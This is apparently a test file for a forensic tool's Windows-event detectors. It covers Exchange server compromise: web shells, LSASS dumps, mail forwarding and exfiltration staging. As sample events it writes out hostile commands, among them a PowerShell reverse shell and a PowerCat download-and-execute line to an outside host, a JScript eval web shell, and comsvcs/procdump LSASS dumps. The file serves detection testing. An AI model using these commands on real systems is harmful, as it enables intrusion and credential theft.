// The Windows-event detectors: for each, the attack forms it must report and the look-alikes of a
// normal Exchange server it must leave alone, as events in real EVTX files (written by
// tools/corpus/evtx-writer.ts), then the real public samples, then the whole pipeline.
import assert from 'node:assert/strict';
import path from 'node:path';
import { describe, test } from 'node:test';
import type { LogEvent, Severity, Stage } from '../src/core/types.js';
import { DETECTORS } from '../src/detect/registry.js';
import type { Detector } from '../src/detect/types.js';
import { EvtxEvent } from '../src/parsers/evtx/event.js';
import { readEvtx } from '../src/parsers/evtx/reader.js';
import { bufferByteSource } from '../src/sources/bytes.js';
import { type WinEventSpec, type XElement, type XValue, winEvent, writeEvtx } from '../tools/corpus/evtx-writer.js';
import { buildZip, byRule, collection, huntFixed, sharedDir } from './helpers.js';

const T0 = Date.parse('2021-03-06T17:27:45.000Z');
const HOST = 'exch01.contoso.local';
const EXCHANGE = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';


async function eventsOf(file: Buffer): Promise<LogEvent[]> {
  const out: LogEvent[] = [];
  await readEvtx(bufferByteSource(file), {
    record: (r) => {
      const ev = new EvtxEvent(r, { input: 0, file: 'test.evtx', record: r.id, offset: r.offset });
      void ev.raw; // build what the tests read while the record can still render
      out.push(ev);
    },
    issue: (code, message) => assert.fail(`${code} ${message}`),
  });
  return out;
}

// ---- event builders ------------------------------------------------------------------------------

type Spec = Omit<WinEventSpec, 'time' | 'computer'> & { computer?: string };
const ev = (s: Spec): XElement => winEvent({ computer: HOST, time: T0, ...s });

function proc4688(parent: string, image: string, cmd: string): XElement {
  return ev({
    provider: 'Microsoft-Windows-Security-Auditing', eventId: 4688, version: 2, level: 0, channel: 'Security',
    data: [['SubjectUserName', 'EXCH01$'], ['SubjectDomainName', 'CONTOSO'], ['NewProcessName', image], ['CommandLine', cmd], ['ParentProcessName', parent]],
  });
}

function sysmon1(parent: string, image: string, cmd: string, parentCmd = ''): XElement {
  return ev({
    provider: 'Microsoft-Windows-Sysmon', eventId: 1, version: 5, level: 4, channel: 'Microsoft-Windows-Sysmon/Operational',
    data: [['UtcTime', '2021-03-06 17:27:45.000'], ['Image', image], ['CommandLine', cmd], ['User', 'NT AUTHORITY\\SYSTEM'], ['ParentImage', parent], ['ParentCommandLine', parentCmd]],
  });
}

function sysmon11(image: string, target: string): XElement {
  return ev({ provider: 'Microsoft-Windows-Sysmon', eventId: 11, version: 2, level: 4, channel: 'Microsoft-Windows-Sysmon/Operational', data: [['Image', image], ['TargetFilename', target], ['User', 'NT AUTHORITY\\SYSTEM']] });
}

function cmdlet(eventId: 1 | 6, name: string, params: string): XElement {
  const values = [name, params, 'contoso.local/Users/Administrator', 'S-1-5-21-1-2-3-500', 'S-1-5-21-1-2-3-500', 'Remote-ManagementShell-Unknown', '7312 w3wp#MSExchangePowerShellAppPool', '', '12', '00:00:00.41'];
  return ev({ provider: 'MSExchange CmdletLogs', eventId, qualifiers: eventId === 1 ? 16384 : 49152, level: eventId === 1 ? 4 : 2, channel: 'MSExchange Management', data: [{ t: 'strings', v: values }] });
}

function forwardedCmdlet(name: string, params: string): XElement {
  // A WEC-forwarded copy: one <Data> per value instead of a string array.
  return ev({ provider: 'MSExchange CmdletLogs', eventId: 1, qualifiers: 16384, level: 4, channel: 'MSExchange Management', data: [name, params, 'contoso.local/Users/Administrator'] });
}

function app(provider: string, eventId: number, level: number, ...data: XValue[]): XElement {
  return ev({ provider, eventId, level, channel: 'Application', data });
}

function defender(eventId: number, threat: string, file: string): XElement {
  return ev({ provider: 'Microsoft-Windows-Windows Defender', eventId, level: 3, channel: 'Microsoft-Windows-Windows Defender/Operational', data: [['Threat Name', threat], ['Path', `file:_${file}`], ['Action Name', 'Quarantine']] });
}

function cleared(eventId: 1102 | 104): XElement {
  const inner: XElement = { name: 'LogFileCleared', attrs: [['xmlns', 'http://manifests.microsoft.com/win/2004/08/windows/eventlog']], content: [{ name: 'SubjectUserName', content: ['tony'] }, { name: 'SubjectDomainName', content: ['CONTOSO'] }, ...(eventId === 104 ? [{ name: 'Channel', content: ['Application'] }] : [])] };
  return ev({ provider: 'Microsoft-Windows-Eventlog', eventId, level: 4, channel: eventId === 1102 ? 'Security' : 'System', userData: inner });
}

const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

interface Case {
  name: string;
  event: XElement;
  expect: [Severity, Stage] | null;
}

const SUITES: [string, Case[]][] = [
  ['exchange-management-cmdlet', [
    { name: 'mailbox exported as .aspx through the admin share', event: cmdlet(1, 'New-MailboxExportRequest', `-Mailbox 'ceo' -FilePath '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx'`), expect: ['critical', 'compromise'] },
    { name: 'the same export, failed', event: cmdlet(6, 'New-MailboxExportRequest', `-Mailbox 'ceo' -FilePath '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx'`), expect: ['high', 'attempt'] },
    { name: 'OAB URL set to a web shell', event: cmdlet(1, 'Set-OabVirtualDirectory', `-Identity 'EXCH01\\OAB (Default Web Site)' -ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'`), expect: ['critical', 'compromise'] },
    { name: 'certificate request written as .aspx (forwarded copy)', event: forwardedCmdlet('New-ExchangeCertificate', `-GenerateRequest -BinaryEncoded -RequestFile 'C:\\inetpub\\wwwroot\\aspnet_client\\c.aspx'`), expect: ['critical', 'compromise'] },
    { name: 'transport agent from a relative path', event: cmdlet(1, 'Install-TransportAgent', `-Name "Evil" -AssemblyPath ".\\NetshHelperBeacon.dll" -TransportAgentFactory "hack"`), expect: ['high', 'attempt'] },
    { name: 'transport agent of an installed product', event: cmdlet(1, 'Install-TransportAgent', `-Name "Spam Filter" -AssemblyPath "C:\\Program Files\\Vendor\\Agent.dll" -TransportAgentFactory "Vendor.Factory"`), expect: ['medium', 'info'] },
    { name: 'forwarding set', event: cmdlet(1, 'Set-Mailbox', `-Identity 'ceo' -ForwardingSmtpAddress 'smtp:drop@evil.example'`), expect: ['medium', 'info'] },
    { name: 'inbox rule redirecting mail', event: cmdlet(1, 'New-InboxRule', `-Mailbox 'cfo' -Name 'x' -RedirectTo 'drop@evil.example'`), expect: ['medium', 'info'] },
    { name: 'forwarding removed', event: cmdlet(1, 'Set-Mailbox', `-Identity 'ceo' -ForwardingSmtpAddress $null`), expect: null },
    { name: 'OWA URL set by an administrator', event: cmdlet(1, 'Set-OwaVirtualDirectory', `-Identity 'EXCH01\\owa (Default Web Site)' -ExternalUrl 'https://mail.contoso.example/owa'`), expect: null },
    { name: 'Get-Mailbox', event: cmdlet(1, 'Get-Mailbox', `-ResultSize 'Unlimited'`), expect: null },
  ]],
  ['cve-2021-26857-um-exception', [
    { name: 'UM error with InvalidCastException', event: app('MSExchange Unified Messaging', 1400, 2, 'Exception: System.InvalidCastException: Unable to cast object of type …'), expect: ['high', 'attempt'] },
    { name: 'UM error for a certificate', event: app('MSExchange Unified Messaging', 1400, 2, 'System.Security.Cryptography.CryptographicException'), expect: null },
    { name: 'InvalidCastException from another source', event: app('MSExchange ADAccess', 2080, 2, 'System.InvalidCastException'), expect: null },
  ]],
  ['exchange-worker-child-process', [
    { name: 'w3wp → cmd (4688)', event: proc4688(W3WP, CMD, 'cmd /c whoami'), expect: ['critical', 'compromise'] },
    { name: 'w3wp (OWA pool) → powershell (Sysmon)', event: sysmon1(W3WP, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -ep bypass', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'), expect: ['critical', 'compromise'] },
    { name: 'UMWorkerProcess → anything', event: proc4688(`${EXCHANGE}\\Bin\\UMWorkerProcess.exe`, 'C:\\ProgramData\\x.exe', 'C:\\ProgramData\\x.exe'), expect: ['critical', 'compromise'] },
    { name: 'w3wp → csc (ASP.NET compiling a page)', event: proc4688(W3WP, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'csc.exe /noconfig @x.cmdline'), expect: null },
    { name: 'UMWorkerProcess → WerFault', event: proc4688(`${EXCHANGE}\\Bin\\UMWorkerProcess.exe`, 'C:\\Windows\\System32\\WerFault.exe', 'WerFault.exe -u -p 1'), expect: null },
    { name: 'svchost → cmd', event: proc4688('C:\\Windows\\System32\\svchost.exe', CMD, 'cmd /c maintenance.cmd'), expect: null },
  ]],
  ['lsass-dump', [
    { name: 'comsvcs MiniDump', event: proc4688(CMD, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 620 C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp full'), expect: ['critical', 'compromise'] },
    { name: 'comsvcs by ordinal', event: sysmon1(CMD, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe comsvcs.dll, #24 620 C:\\temp\\l.bin full'), expect: ['critical', 'compromise'] },
    { name: 'procdump -ma lsass', event: proc4688(CMD, 'C:\\root\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe C:\\root\\lsass.dmp'), expect: ['critical', 'compromise'] },
    { name: 'Task Manager dump file', event: sysmon11('C:\\Windows\\System32\\Taskmgr.exe', 'C:\\Users\\admin\\AppData\\Local\\Temp\\lsass (2).DMP'), expect: ['critical', 'compromise'] },
    { name: 'procdump of another process', event: proc4688(CMD, 'C:\\tools\\procdump.exe', 'procdump.exe -ma w3wp.exe C:\\dumps\\w3wp.dmp'), expect: null },
    { name: 'comsvcs loaded for COM+', event: proc4688('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\dllhost.exe', 'dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}'), expect: null },
  ]],
  ['exfiltration-staging', [
    { name: '7-Zip of PSTs in ProgramData', event: proc4688(CMD, 'C:\\ProgramData\\7z.exe', 'C:\\ProgramData\\7z.exe a -t7z C:\\Programdata\\pst\\it.zip C:\\Programdata\\pst\\*.pst -pPassw0rd'), expect: ['critical', 'compromise'] },
    { name: 'makecab of a dump in the web root', event: proc4688(CMD, 'C:\\Windows\\System32\\makecab.exe', 'makecab C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp.zip'), expect: ['critical', 'compromise'] },
    { name: 'archive built in aspnet_client', event: proc4688(CMD, 'C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a C:\\inetpub\\wwwroot\\aspnet_client\\x.zip C:\\Users\\Public\\*.docx'), expect: ['high', 'compromise'] },
    { name: 'backup job zipping reports', event: proc4688('C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a D:\\Backup\\reports.7z D:\\Reports\\*.xlsx'), expect: null },
  ]],
  ['offensive-powershell', [
    { name: 'Nishang reverse shell', event: proc4688(CMD, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell -c "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$stream = $client.GetStream()"`), expect: ['critical', 'compromise'] },
    { name: 'PowerCat from GitHub', event: proc4688(CMD, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c 203.0.113.5 -p 443 -e cmd`), expect: ['critical', 'compromise'] },
    { name: 'Exchange snap-in loaded by a script', event: proc4688(CMD, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -c "Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-Mailbox | New-MailboxExportRequest -FilePath \\\\fs\\x"`), expect: ['medium', 'info'] },
    { name: 'Exchange setup loading the snap-in', event: proc4688('C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn"'), expect: null },
    { name: 'script block with the reverse shell', event: ev({ provider: 'Microsoft-Windows-PowerShell', eventId: 4104, level: 5, channel: 'Microsoft-Windows-PowerShell/Operational', data: [['MessageNumber', 1], ['MessageTotal', 1], ['ScriptBlockText', 'function Invoke-PowerShellTcp { … }'], ['ScriptBlockId', 'x'], ['Path', '']] }), expect: ['critical', 'compromise'] },
  ]],
  ['webshell-file-write', [
    { name: 'w3wp writes an .aspx under HttpProxy', event: sysmon11(W3WP, `${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx`), expect: ['critical', 'compromise'] },
    { name: 'Mailbox Replication writes an .aspx (ProxyShell export)', event: sysmon11(`${EXCHANGE}\\Bin\\MSExchangeMailboxReplication.exe`, 'C:\\inetpub\\wwwroot\\aspnet_client\\p433zrwewrvmcv.aspx'), expect: ['critical', 'compromise'] },
    { name: 'UMWorkerProcess writes an executable', event: sysmon11(`${EXCHANGE}\\Bin\\UMWorkerProcess.exe`, 'C:\\ProgramData\\x.exe'), expect: ['high', 'attempt'] },
    { name: 'UMWorkerProcess writes its log', event: sysmon11(`${EXCHANGE}\\Bin\\UMWorkerProcess.exe`, `${EXCHANGE}\\Logging\\UMWorkerProcess\\UM_20210306.LOG`), expect: null },
    { name: 'w3wp compiles into Temporary ASP.NET Files', event: sysmon11(W3WP, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\1a2b\\App_Web_x.dll'), expect: null },
  ]],
  ['defender-detection', [
    { name: 'China Chopper found', event: defender(1116, 'Backdoor:ASP/Chopper.F!dha', 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx'), expect: ['critical', 'compromise'] },
    { name: 'Exchange exploit artefact', event: defender(1116, 'Exploit:Script/Exmann.A!dha', `${EXCHANGE}\\FrontEnd\\HttpProxy\\OAB\\x.txt`), expect: ['high', 'attempt'] },
    { name: 'an adware download', event: defender(1116, 'PUA:Win32/Presenoker', 'C:\\Users\\jdoe\\Downloads\\setup.exe'), expect: ['low', 'info'] },
    { name: 'Defender start-up event', event: ev({ provider: 'Microsoft-Windows-Windows Defender', eventId: 1150, level: 4, channel: 'Microsoft-Windows-Windows Defender/Operational', data: [['Product Version', '4.18']] }), expect: null },
  ]],
  ['event-log-cleared', [
    { name: 'Security log cleared', event: cleared(1102), expect: ['high', 'info'] },
    { name: 'Application log cleared', event: cleared(104), expect: ['high', 'info'] },
    { name: 'service started', event: ev({ provider: 'Service Control Manager', eventId: 7036, level: 4, channel: 'System', data: [['param1', 'Windows Update'], ['param2', 'running']] }), expect: null },
  ]],
];

function detector(id: string): Detector {
  const d = DETECTORS.find((x) => x.id === id);
  assert.ok(d, id);
  return d;
}

describe('Windows-event detectors', () => {
  for (const [id, cases] of SUITES) {
    describe(id, () => {
      for (const c of cases) {
        test(`${c.expect ? c.expect[0] : 'quiet'}: ${c.name}`, async () => {
          const [event] = await eventsOf(writeEvtx([{ event: c.event }]));
          const det = detector(id);
          const hit = det.inspect(event!, {});
          if (!c.expect) {
            assert.equal(hit, undefined, hit?.summary);
            return;
          }
          assert.ok(hit, 'expected a hit');
          assert.deepEqual([hit.severity, hit.stage], c.expect, hit.summary);
          // No other Windows detector claims the same event (one act, one finding), except
          // the LSASS dump whose shell is also a child of w3wp in some cases.
          const others = DETECTORS.filter((d) => d.id !== id && d.appliesTo.includes('evtx') && d.inspect(event!, {}));
          assert.ok(others.every((d) => ['exchange-worker-child-process', 'lsass-dump', 'exfiltration-staging', 'offensive-powershell'].includes(d.id)), others.map((d) => d.id).join());
        });
      }
    });
  }

  test('through the pipeline: findings cite the file and record; look-alikes stay quiet', async () => {
    const all = SUITES.flatMap(([id, cases]) => cases.map((c) => ({ id, c })));
    const file = writeEvtx(all.map(({ c }, i) => ({ event: c.event, written: T0 + i * 1000 })));
    const root = collection({ 'EXCH01/winevt/Logs/Mixed.evtx': file });
    const report = await huntFixed([root], { minSeverity: 'info' });
    assert.deepEqual(report.errors, []);
    assert.equal(report.coverage.files[0]!.source, 'evtx');
    assert.equal(report.coverage.files[0]!.events, all.length);
    for (const [id, cases] of SUITES) {
      const cited = new Set(byRule(report, id).flatMap((f) => f.evidence.map((e) => e.record)));
      cases.forEach((c) => {
        const record = all.findIndex((x) => x.c === c) + 1;
        assert.equal(cited.has(record), c.expect !== null, `${id} / ${c.name} (record ${record})`);
      });
    }
    for (const f of report.findings) for (const e of f.evidence) assert.equal(e.file, 'EXCH01/winevt/Logs/Mixed.evtx');

    // The same log inside a KAPE-style zip, read on two threads: the same findings.
    const zipRoot = collection({ 'kape.zip': buildZip([{ name: 'C/Windows/System32/winevt/Logs/Mixed.evtx', data: file }]) });
    const zipped = await huntFixed([path.join(zipRoot, 'kape.zip')], { minSeverity: 'info', threads: 2 });
    assert.deepEqual(zipped.errors, []);
    assert.deepEqual(
      zipped.findings.map((f) => [f.rule, f.severity, f.count, f.evidence.map((e) => e.record)]),
      report.findings.map((f) => [f.rule, f.severity, f.count, f.evidence.map((e) => e.record)]),
    );
  });
});

describe('Windows-event detectors on the public samples', () => {
  test('each sample gives its finding and nothing else', async () => {
    const samples = path.join(sharedDir(), 'samples', 'evtx');
    const report = await huntFixed([samples], { minSeverity: 'info' });
    const got = report.findings.map((f) => `${f.rule} ${f.severity} ${f.evidence[0]!.file}`).sort();
    assert.deepEqual(got, [
      'event-log-cleared high system.evtx',
      'exchange-management-cmdlet high exchange-cmdlet-id6-install-transportagent.evtx',
      'exchange-management-cmdlet medium MSExchange_Management_wec.evtx',
      'exchange-worker-child-process critical iis-webshell-w3wp-cmd-sysmon.evtx',
      'lsass-dump critical lsass-dump-lsassy-sysmon1.evtx',
    ]);
    assert.equal(report.verdict.status, 'COMPROMISED');
    const lsass = byRule(report, 'lsass-dump')[0]!;
    assert.match(lsass.summary, /comsvcs\.dll, MiniDump/);
    assert.ok(lsass.evidence.every((e) => e.record !== undefined && e.line === undefined));
  });
});
